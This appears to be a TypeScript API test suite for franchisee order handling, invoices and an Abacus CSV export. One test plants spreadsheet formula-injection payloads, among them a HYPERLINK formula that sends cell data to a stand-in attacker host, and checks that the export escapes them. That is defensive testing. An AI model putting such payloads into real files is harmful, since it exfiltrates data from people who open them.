// Also on the embedded database: the orders path: changes to an order take its row lock.
import { BookletState, type Order, type OrderBooklet } from '@gb/contracts';
import request from 'supertest';
import { DataSource } from 'typeorm';

import { Booklet } from '../src/modules/booklets/entities/booklet.entity.js';
import { withBytesBody } from './support/bytes-body.js';
import { DEMO, login } from './support/login.js';
import {
  insertOrderBooklets,
  privateOrder,
  type OrderBooklets,
} from './support/order-booklets.fixture.js';
import { startTestApp, type TestApp } from './support/test-app.js';

describe('franchisee order calls', () => {
  let t: TestApp;
  let booklets: OrderBooklets;
  let franchisee: string;
  let order: Order;

  beforeAll(async () => {
    t = await startTestApp();
    booklets = await insertOrderBooklets(t.app.get(DataSource));
    franchisee = (await login(t.server, DEMO.franchisee)).token;
    order = (
      await request(t.server)
        .post('/api/v1/order')
        .send(
          privateOrder([
            { bookletId: booklets.published.id, quantity: 2 },
            { bookletId: booklets.preOrder.id, quantity: 1 },
          ]),
        )
        .expect(201)
    ).body;
  });

  afterAll(() => t.close());

  const as = (token: string) => ({
    get: (path: string) => request(t.server).get(path).set('Authorization', `Bearer ${token}`),
    put: (path: string, body: object) =>
      request(t.server).put(path).set('Authorization', `Bearer ${token}`).send(body),
    delete: (path: string) =>
      request(t.server).delete(path).set('Authorization', `Bearer ${token}`),
  });

  it('lists the orders of current booklets for a franchisee', async () => {
    const orders = (await as(franchisee).get('/api/v1/order').expect(200)).body as Order[];
    expect(orders.map((o) => o.displayOrderId)).toContain(order.displayOrderId);
  });

  it.each([
    ['Company', DEMO.company],
    ['GraphicDesigner', DEMO.designer],
  ])('refuses a %s user with 403', async (_role, username) => {
    const { token } = await login(t.server, username);
    await as(token).get('/api/v1/order').expect(403);
    await as(token)
      .put(`/api/v1/order/${order.id}`, { postage: 0, postageLabel: '', postageProductNo: '' })
      .expect(403);
    await as(token).delete(`/api/v1/order/${order.id}`).expect(403);
    await as(token).get('/api/v1/accounting/abacus-export').expect(403);
    await as(token).get('/api/v1/order/booklets').expect(403);
  });

  it('refuses anonymous callers with 401', async () => {
    await request(t.server).get('/api/v1/order').expect(401);
    await request(t.server).get(`/api/v1/order/${order.id}/invoice`).expect(401);
    await request(t.server).get('/api/v1/accounting/abacus-export').expect(401);
  });

  it('sets the postage and recomputes the total', async () => {
    const changed = (
      await as(franchisee)
        .put(`/api/v1/order/${order.id}`, {
          postage: 9,
          postageProductNo: 'PP-9',
          postageLabel: 'Einschreiben',
        })
        .expect(200)
    ).body as Order;
    expect(changed).toMatchObject({
      postage: 9,
      postageProductNo: 'PP-9',
      postageLabel: 'Einschreiben',
    });
    expect(changed.total).toBe(70 + 39.9 + 9);
  });

  it('replaces the lines with prices from the booklets and keeps the postage', async () => {
    const changed = (
      await as(franchisee)
        .put(`/api/v1/order/${order.id}/order-line`, {
          lines: [{ bookletId: booklets.published.id, quantity: 3, unitPrice: 1 }],
        })
        .expect(200)
    ).body as Order;
    expect(changed.orderLines).toEqual([
      {
        bookletId: booklets.published.id,
        currency: 'CHF',
        unitPrice: 35,
        quantity: 3,
        price: 105,
        vatPercent: 8.1,
      },
    ]);
    expect(changed.total).toBe(105 + 9);
  });

  it('corrects the billing address with the order form rules', async () => {
    const bad = await as(franchisee)
      .put(`/api/v1/order/${order.id}/billing-address`, {
        ...privateOrder([]),
        zip: '0123',
        orderLines: undefined,
      })
      .expect(400);
    expect(bad.body.errors).toEqual(['PLZ muss gültige PLZ sein.']);
    const changed = (
      await as(franchisee)
        .put(`/api/v1/order/${order.id}/billing-address`, {
          ...privateOrder([]),
          city: 'Baden',
          zip: '5400',
          orderLines: undefined,
        })
        .expect(200)
    ).body as Order;
    expect(changed.billingAddress).toMatchObject({ city: 'Baden', zip: '5400', firstname: 'Anna' });
  });

  it('downloads the invoice PDF', async () => {
    const response = await withBytesBody(
      as(franchisee).get(`/api/v1/order/${order.id}/invoice`),
    ).expect(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toContain(
      `Rechnung-${order.displayOrderId}.pdf`,
    );
    expect((response.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('exports the billed lines of a booklet year as CSV for Abacus', async () => {
    const response = await as(franchisee)
      .get('/api/v1/accounting/abacus-export?year=2080')
      .expect(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toContain('abacus-export-2080.csv');
    const rows = response.text.trim().split('\r\n');
    expect(rows[0]).toBe(
      'date;documentNumber;productId;costCentre;quantity;unitPrice;vatPercent;amount',
    );
    expect(rows.slice(1)).toEqual([
      expect.stringMatching(
        new RegExp(
          `^\\d{2}\\.\\d{2}\\.\\d{4};${order.displayOrderId};GB-2080;CC-2080;3;35\\.00;8\\.10;105\\.00$`,
        ),
      ),
      expect.stringMatching(
        new RegExp(`;${order.displayOrderId};PP-9;CC-2080;1;9\\.00;8\\.10;9\\.00$`),
      ),
    ]);
  });

  it("bills an order's postage once, with its first line's year, when it spans two years", async () => {
    const spanning = (
      await request(t.server)
        .post('/api/v1/order')
        .send(
          privateOrder([
            { bookletId: booklets.published.id, quantity: 1 },
            { bookletId: booklets.preOrder.id, quantity: 1 },
          ]),
        )
        .expect(201)
    ).body as Order;
    const rowsOf = async (year: number) =>
      (await as(franchisee).get(`/api/v1/accounting/abacus-export?year=${year}`).expect(200)).text
        .trim()
        .split('\r\n')
        .filter((row) => row.includes(`;${spanning.displayOrderId};`))
        .map((row) => row.split(';').slice(2).join(';'));
    expect(await rowsOf(2080)).toEqual([
      'GB-2080;CC-2080;1;35.00;8.10;35.00',
      ';CC-2080;1;5.00;8.10;5.00',
    ]);
    expect(await rowsOf(2081)).toEqual(['GB-2081;CC-2081;1;39.90;8.10;39.90']);
  });

  it('writes texts that begin like a formula so that a spreadsheet shows them, never runs them', async () => {
    await t.app.get(DataSource).getRepository(Booklet).update(booklets.preOrder.id, {
      abacusProductId: '=HYPERLINK("https://evil.example/?"&A1,"Rabatt")',
      costCentre1Income: '+41-62',
    });
    const ordered = (
      await request(t.server)
        .post('/api/v1/order')
        .send(privateOrder([{ bookletId: booklets.preOrder.id, quantity: 1 }]))
        .expect(201)
    ).body as Order;
    await as(franchisee)
      .put(`/api/v1/order/${ordered.id}`, {
        postage: 9,
        postageProductNo: '@SUM(1+1)',
        postageLabel: 'Einschreiben',
      })
      .expect(200);
    const rows = (
      await as(franchisee).get('/api/v1/accounting/abacus-export?year=2081').expect(200)
    ).text
      .trim()
      .split('\r\n')
      .filter((row) => row.includes(`;${ordered.displayOrderId};`))
      .map((row) => row.split(';').slice(1).join(';'));
    expect(rows).toEqual([
      `${ordered.displayOrderId};"'=HYPERLINK(""https://evil.example/?""&A1,""Rabatt"")";'+41-62;1;39.90;8.10;39.90`,
      `${ordered.displayOrderId};'@SUM(1+1);'+41-62;1;9.00;8.10;9.00`,
    ]);
  });

  it('refuses a year that is no number', async () => {
    const response = await as(franchisee)
      .get('/api/v1/accounting/abacus-export?year=abc')
      .expect(400);
    expect(response.body.errors).toEqual(['Jahr ist ungültig']);
  });

  it('lists an order under archived once its booklet is archived', async () => {
    await t.app
      .get(DataSource)
      .getRepository(Booklet)
      .update(booklets.published.id, { state: BookletState.Archived });
    const current = (await as(franchisee).get('/api/v1/order').expect(200)).body as Order[];
    const archived = (await as(franchisee).get('/api/v1/order?archived=true').expect(200))
      .body as Order[];
    expect(current.map((o) => o.id)).not.toContain(order.id);
    expect(archived.map((o) => o.id)).toContain(order.id);
    // The dashboard still names the archived booklet of those orders.
    const named = (await as(franchisee).get('/api/v1/order/booklets').expect(200))
      .body as OrderBooklet[];
    const line = archived.find((o) => o.id === order.id)!.orderLines[0]!;
    expect(named.find((b) => b.id === line.bookletId)).toEqual({
      id: booklets.published.id,
      regionName: 'Bestellland',
      year: 2080,
      state: BookletState.Archived,
    });
  });

  it('deletes an order, then answers 404', async () => {
    await as(franchisee).delete(`/api/v1/order/${order.id}`).expect(204);
    const missing = await as(franchisee).get(`/api/v1/order/${order.id}`).expect(404);
    expect(missing.body.message).toBe('Nicht gefunden');
    await as(franchisee).delete(`/api/v1/order/${order.id}`).expect(404);
  });
});
